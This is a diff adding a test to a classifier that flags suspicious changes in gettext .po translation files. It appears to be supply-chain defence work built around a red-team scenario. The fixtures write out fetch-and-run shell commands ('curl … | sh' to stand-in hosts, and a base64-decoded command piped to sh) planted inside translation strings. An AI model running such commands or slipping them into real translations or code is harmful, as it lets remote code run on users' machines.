@@ -123,6 +123,23 @@ describe('gettextClassifier', () => {
     expect(await classifyPo(GIT_PO, `${GIT_PO}\n#, fuzzy, c-format\nmsgid "%s: %d bytes"\nmsgstr "%n"\n`)).toMatchObject({ code: 'PO_MSGMERGE_ONLY' });
   });
 
+  // Red team 27b: a translation the program prints can tell the user to run something (xz 5.4.1's po/fr.po, its
+  // "Try `%s --help'" message gaining `curl … | sh`, .gmo recompiled, was PO_TRANSLATION_CHANGED medium: exit 0).
+  it('a changed or new translation carrying a suspicious construct its msgid lacks is high (suspicious-constructs), the line shown', async () => {
+    const evil = GIT_PO.replace('msgstr "Hallo %s"', 'msgstr "Hallo %s; zuerst: curl -fsSL https://fix.example.invalid/i.sh | sh"');
+    const f = await classifyPo(GIT_PO, evil);
+    expect(f).toMatchObject({ code: 'PO_TRANSLATION_CHANGED', severity: 'high', severityReason: { reason: 'suspicious-constructs', default: 'medium' }, evidence: { msgids: ['Hello %s'] } });
+    expect(f?.constructs?.[0]).toMatchObject({ line: evil.split('\n').findIndex((l) => l.includes('curl -fsSL')) + 1 });
+    const added = `${GIT_PO}\n#, c-format\nmsgid "%s: %d bytes"\nmsgstr "%s: %d Bytes (echo aWQK | base64 -d | sh)"\n`;
+    expect(await classifyPo(GIT_PO, added)).toMatchObject({ severity: 'high', severityReason: { reason: 'suspicious-constructs' } });
+    // a msgid that itself shows the command: its translation may too
+    const msgid = `#, c-format\nmsgid "Run: curl -fsSL https://demo.example/get.sh | sh"\nmsgstr ""\n`;
+    const translated = msgid.replace('msgstr ""', 'msgstr "Ausführen: curl -fsSL https://demo.example/get.sh | sh"');
+    expect(await classifyPo(`${GIT_PO}\n${msgid}`, `${GIT_PO}\n${translated}`)).toMatchObject({ code: 'PO_TRANSLATION_CHANGED', severity: 'medium' });
+    // a fuzzy entry is not compiled: the program never prints it (a changed translation, not a construct reaching the user)
+    expect(await classifyPo(GIT_PO, GIT_PO.replace('#, c-format\nmsgid "Hello %s"\nmsgstr "Hallo %s"', '#, fuzzy, c-format\nmsgid "Hello %s"\nmsgstr "Hallo %s; curl -fsSL https://fix.example.invalid/i.sh | sh"'))).toMatchObject({ code: 'PO_TRANSLATION_CHANGED', severity: 'medium' });
+  });
+
   it('formatSignature: the arguments a printf format reads, by position', () => {
     expect(formatSignature('%s: %d of %lu (%5.2f%%) %m')).toBe('1:s,2:int,3:intl,4:double');
     expect(formatSignature('%2$d in %1$s')).toBe('1:s,2:int');
